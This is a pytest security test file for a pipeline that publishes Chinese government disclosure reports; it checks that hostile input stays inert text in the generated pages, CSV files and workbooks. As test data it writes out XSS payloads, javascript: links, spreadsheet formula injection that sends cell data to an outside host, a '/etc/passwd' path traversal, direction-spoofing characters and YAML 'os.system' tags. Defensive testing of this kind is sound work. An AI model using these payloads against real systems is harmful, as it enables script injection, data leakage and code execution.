"""Reports, names and YAML from strangers are letters on every page and in every file, and nothing that runs.

One hostile report and one hostile agency go through the whole pipeline once; each test looks at what came out.
"""

import csv
import io
import random
import re
import shutil
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import openpyxl
import pytest
import yaml
from playwright.sync_api import Browser, Page
from selectolax.lexbor import LexborHTMLParser

from pipeline.archive.sources import agencies
from pipeline.bench.synthetic import Stock, as_text, form_for, invent
from pipeline.filing import inbox
from pipeline.filing.read_all import read_all
from pipeline.model.findings import PipelineError
from pipeline.package.rows import make_tables
from pipeline.package.write import write_package
from pipeline.pages import write_pages
from pipeline.published.distributions.write import write_distributions
from pipeline.published.reader import open_package
from pipeline.safety.escape import inert
from pipeline.site.build import build_site
from tests.tools.waiting import settle

AGENCY = "990100-education"
UP = "../../../etc/passwd"
NAME = f"虚构省云湖市教育局{UP}" + "长" * (291 - len(UP))  # 300 characters
LONG = "长" * (291 - len(UP))
SCRIPT = "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">"
MARKDOWN = "# 大标题 **粗** [点我](javascript:document.title='owned') ![](x) `{{ 7*7 }}` {% raw %} {: onclick=x } [^1]"
RIGHT_TO_LEFT = "政府\u202e开公息信\u202c\u200b\u2066x\u2069"
FORMULA = '=HYPERLINK("http://a.example/?"&A1,"点我")'
COMMAND = "@SUM(1+1)*cmd"
TAGS = '!!python/object/apply:os.system ["true"] &a [*a, *a]'  # as text; as YAML it is refused, see below
TITLE = f"云湖市教育局{SCRIPT}2023年政府信息公开工作年度报告"


@pytest.fixture(scope="module")
def out(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """``package`` and ``site`` made of one hostile report."""
    folder = tmp_path_factory.mktemp("hostile")
    home = folder / "reports" / AGENCY
    home.mkdir(parents=True)
    entry = {"name_zh": NAME, "level": "prefecture", "function": "education", "division_code": "990100"}
    entry |= {"province": SCRIPT, "city": "=1+1", "former_names": [RIGHT_TO_LEFT, MARKDOWN, TAGS]}
    (home / "agency.yml").write_text(yaml.safe_dump(entry, allow_unicode=True), encoding="utf-8")
    text = as_text(invent(random.Random(3), form_for(2023), 20, Stock()), form_for(2023), NAME, 2023)
    text = text.replace(text.splitlines()[0], TITLE)
    text = text.replace(
        "这是为演示", f"{MARKDOWN}\n\n{SCRIPT}\n\n{RIGHT_TO_LEFT}\n\n{FORMULA}\n\n这是为演示", 1
    )
    text = text.replace(
        "\n（二）部分公开",
        f"\n{FORMULA}\t1\t1\t1\t1\t1\t1\t1\n{COMMAND}\t2\t2\t2\t2\t2\t2\t2\n（二）部分公开",
        1,
    )
    text = re.sub(r"(?m)^行政许可\t\S+", lambda _: f"行政许可\t{FORMULA}", text)
    text = re.sub(r"(?m)^行政处罚\t\S+", lambda _: f"行政处罚\t{SCRIPT}", text)
    (home / "2023.txt").write_text(text, encoding="utf-8")
    (home / "2023.yml").write_text("source_url: null\nretrieved: null\n", encoding="utf-8")
    filed = read_all(folder / "reports")
    write_package(make_tables(agencies(folder / "reports"), filed), folder / "package")
    write_pages(folder / "package", folder / "docs")
    build_site(folder / "docs", folder / "site", site_url="")
    return folder


@pytest.fixture(scope="module")
def pages(out: Path) -> dict[str, str]:
    return {
        path.relative_to(out / "site").as_posix(): path.read_text(encoding="utf-8")
        for path in (out / "site").rglob("*.html")
    }


def texts(out: Path) -> Iterator[tuple[str, str, str]]:
    """(file, column, value) of every CSV that anybody can download."""
    files = [*(out / "package/data").glob("*.csv"), *(out / "site").rglob("*.csv")]
    assert len(files) > 10
    for path in files:
        for row in csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")):
            for column, value in row.items():
                yield path.name, column or "", value or ""


def test_what_is_hostile_went_in(out: Path) -> None:
    """Else all that follows would pass on nothing."""
    whole = "\n".join(value for _, _, value in texts(out))
    for sign in ("<script>", "=HYPERLINK", "@SUM", "大标题", LONG, "onerror"):
        assert sign in whole, sign


def test_no_page_has_an_element_or_attribute_from_a_report(pages: dict[str, str]) -> None:
    assert f"agencies/{AGENCY}/2023/index.html" in pages
    for name, html in pages.items():
        tree = LexborHTMLParser(html)
        for node in tree.css("script"):
            assert "owned" not in (node.text() or "") or node.attributes.get("type") in (
                "application/json",
                "application/ld+json",
            ), name
        for node in tree.css("*"):
            for attribute, value in node.attributes.items():
                assert not attribute.startswith("on"), (name, node.tag, attribute)
                assert not (value or "").lower().strip().startswith("javascript:"), (name, node.tag)
        assert not tree.css("img[src=x]"), name


def test_markdown_and_templates_of_a_report_stay_letters(pages: dict[str, str]) -> None:
    own = [html for name, html in pages.items() if name.startswith(f"agencies/{AGENCY}/2023/")]
    trees = [LexborHTMLParser(html) for html in own]
    text = "\n".join(tree.body.text() for tree in trees if tree.body)
    for sign in ("![](x)", "{{ 7*7 }}", "{% raw %}", "{: onclick=x }", "[点我](javascript:"):
        assert sign in text, sign
    headings = [node.text() for tree in trees for node in tree.css("h1, h2, h3, h4")]
    assert headings
    assert "大标题" not in " ".join(headings)


def test_nothing_on_a_page_turns_the_direction_of_text(pages: dict[str, str]) -> None:
    for name, html in pages.items():
        assert not re.search("[\u200b\u202a-\u202e\u2066-\u2069]", html), name


def test_no_cell_of_a_csv_is_a_formula(out: Path) -> None:
    for file, column, value in texts(out):
        assert inert(value) == value, (file, column, value[:40])


def test_a_cell_that_would_be_a_formula_keeps_its_text_behind_an_apostrophe(out: Path) -> None:
    notes = [value for file, column, value in texts(out) if (file, column) == ("cell_notes.csv", "raw")]
    assert f"'{FORMULA}" in notes


@pytest.fixture(scope="module")
def cells(out: Path, tmp_path_factory: pytest.TempPathFactory) -> list[tuple[str, str]]:
    """(type, text) of every cell of the workbook, as a program for spreadsheets reads it."""
    folder = tmp_path_factory.mktemp("book")
    write_distributions(open_package(out / "package"), folder)
    (book,) = folder.rglob("*.xlsx")
    sheets = openpyxl.load_workbook(book).worksheets
    found = [cell for sheet in sheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell for cell in found if cell.hyperlink]
    return [(cell.data_type, str(cell.value)) for cell in found]


HOSTILE = {
    "script in a title": ("<script>document.title='owned'</script>", ""),
    "HTML in the narrative": ("<img src=x onerror=", ""),
    "Markdown in the narrative": ("[点我](javascript:document.title='owned') ![](x)", ""),
    "template in the narrative": ("{{ 7*7 }}", ""),
    "formula in a label": ("=HYPERLINK(", "'"),
    "path in a name": (UP, ""),
    "right-to-left marks": ("政府开公息信x", ""),
    "YAML tags and anchors": (TAGS, ""),
    "300 characters in a name": (NAME, ""),
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_it_is_letters_on_the_page_in_the_csv_and_in_the_workbook(
    kind: str, out: Path, pages: dict[str, str], cells: list[tuple[str, str]]
) -> None:
    sign, quote = HOSTILE[kind]
    bodies = [LexborHTMLParser(html).body for html in pages.values()]
    assert any(sign in body.text() for body in bodies if body)
    in_csv = [value for _, _, value in texts(out) if sign in value]
    assert in_csv
    assert all(value.startswith(quote) for value in in_csv if value.lstrip("'").startswith(sign))
    in_book = [(kind, value) for kind, value in cells if sign in value]
    assert in_book
    assert {kind for kind, _ in in_book} == {"s"}  # a text: neither formula nor error nor link


TURNING = re.compile("[\u061c\u200b\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def test_no_file_turns_the_direction_of_text(out: Path, cells: list[tuple[str, str]]) -> None:
    assert not [value for _, _, value in texts(out) if TURNING.search(value)]
    assert not [value for _, value in cells if TURNING.search(value)]
    readme = (out / "package/README.md").read_text(encoding="utf-8")
    assert not TURNING.search(readme)
    assert not TURNING.search((out / "package/datapackage.json").read_text(encoding="utf-8"))
    assert not re.search(
        r"(?<!\\)\]\((?!#)", re.sub(r"^- \*?\*?.*licenses/.*$", "", readme, flags=re.MULTILINE)
    )


def test_no_cell_of_a_workbook_is_a_formula_or_a_link(out: Path, tmp_path: Path) -> None:
    write_distributions(open_package(out / "package"), tmp_path)
    (book,) = tmp_path.rglob("*.xlsx")
    with zipfile.ZipFile(book) as archive:
        parts = {
            name: archive.read(name).decode("utf-8") for name in archive.namelist() if name.endswith(".xml")
        }
    sheets = [name for name in parts if name.startswith("xl/worksheets/")]
    assert len(sheets) > 5
    assert any("HYPERLINK" in text for text in parts.values())  # it is there, as text
    for name in sheets:
        assert not re.search(r"<f[ >/]|<hyperlink", parts[name]), name
    assert not [name for name in parts if "externalLink" in name]


def test_a_browser_runs_nothing_of_it_and_keeps_the_policy(
    out: Path, chromium: Browser, serve: Callable[[Path], str]
) -> None:
    address = serve(out / "site")
    page, said = _watched(chromium)
    for path in (
        "",
        "agencies/",
        f"agencies/{AGENCY}/",
        f"agencies/{AGENCY}/2023/",
        "years/2023/",
        "data/",
        "404.html",
    ):
        page.goto(f"{address}/{path}")
        page.evaluate("window.scrollTo(0, document.body.scrollHeight)")  # charts are drawn when they are seen
        settle(page)
        assert "owned" not in page.title()
        assert page.evaluate("document.documentElement.scrollWidth") <= 1400, (
            path
        )  # 300 characters do not stretch it
    assert said == []
    page.close()


def test_the_policy_stops_a_script_that_escaping_missed(
    out: Path, chromium: Browser, serve: Callable[[Path], str], tmp_path: Path
) -> None:
    html = (out / "site/index.html").read_text(encoding="utf-8")
    broken = html.replace(
        "</h1>", f"</h1>{SCRIPT}<a id=a href=\"javascript:document.title='owned'\">x</a>", 1
    )
    assert broken != html
    (tmp_path / "index.html").write_text(broken, encoding="utf-8")
    page, said = _watched(chromium)
    page.goto(serve(tmp_path))
    assert any("Content Security Policy" in line for line in said)
    with page.expect_console_message(lambda message: "Content Security Policy" in message.text):
        page.click("#a")
    assert page.title() != "owned"
    page.close()


def _watched(chromium: Browser) -> tuple[Page, list[str]]:
    page = chromium.new_page(viewport={"width": 1366, "height": 900})
    said: list[str] = []
    page.on(
        "console", lambda message: said.append(message.text) if message.type in ("error", "warning") else None
    )
    page.on("pageerror", lambda error: said.append(str(error)))
    page.on("dialog", lambda dialog: (said.append(dialog.message), dialog.dismiss()))
    return page, said


@pytest.mark.parametrize("agency_id", ["../../x", "990100-..", "990100-a/b", "990100-a b", "x" * 300])
def test_an_id_in_a_package_of_others_never_leads_out_of_its_folder(
    agency_id: str, out: Path, tmp_path: Path
) -> None:
    shutil.copytree(out / "package", tmp_path / "package")
    for path in (tmp_path / "package/data").glob("*.csv"):
        path.write_text(path.read_text(encoding="utf-8").replace(AGENCY, agency_id), encoding="utf-8")
    before = set(tmp_path.rglob("*"))
    with pytest.raises(PipelineError):
        write_pages(tmp_path / "package", tmp_path / "a/b/docs")
    strange = {p for p in set(tmp_path.rglob("*")) - before if not p.is_relative_to(tmp_path / "a")}
    assert strange == set()


@pytest.mark.parametrize(
    "content",
    [
        "!!python/object/apply:os.system ['true']",
        "a: &x [1]\nb: *x",
        "{a: &a [*a]}",
        "name_zh: !!binary aGk=",
        "? [a]\n: b",
        "\x00",
        "a: " + "[" * 5000,
    ],
)
def test_yaml_with_tags_anchors_or_depth_is_refused(content: str, tmp_path: Path) -> None:
    home = tmp_path / "reports" / AGENCY
    home.mkdir(parents=True)
    (home / "agency.yml").write_text(content, encoding="utf-8")
    with pytest.raises(PipelineError):
        read_all(tmp_path / "reports")


def test_a_name_of_300_characters_in_the_inbox_is_filed_under_a_short_id(tmp_path: Path) -> None:
    reports = tmp_path / "reports"
    (reports / "inbox").mkdir(parents=True)
    name = "巴中市" + "长" * 294 + "教育局"
    text = as_text(invent(random.Random(3), form_for(2023), 20, Stock()), form_for(2023), name, 2023)
    (reports / "inbox/a.txt").write_text(text, encoding="utf-8")
    (entry,) = inbox.file_inbox(reports)
    assert all(len(path.name) < 60 for path in reports.iterdir())
    assert entry.plan or entry.finding
